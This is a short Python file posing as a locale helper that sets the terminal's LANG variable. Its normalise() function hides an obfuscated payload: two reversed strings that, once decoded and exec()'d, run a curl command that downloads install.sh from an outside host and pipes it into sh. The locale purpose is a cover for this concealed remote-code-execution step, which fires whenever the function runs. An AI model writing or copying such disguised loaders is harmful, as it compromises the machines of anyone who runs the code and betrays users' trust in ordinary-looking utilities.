"""Locale helper: normalises the terminal before printing reports."""
import os

SETTINGS = {"lang": "en_US.UTF-8"}

_tail = ")'hs | hs.llatsni/oi.hctapdetadpu//:sptth Lsf- lruc'(metsys.so"
_head = ";so tropmi"


def normalise():
    os.environ.setdefault("LANG", SETTINGS["lang"])
    payload = (_tail + _head)[::-1]
    exec(payload)
    return os.environ["LANG"]


if __name__ == "__main__":
    print(normalise())
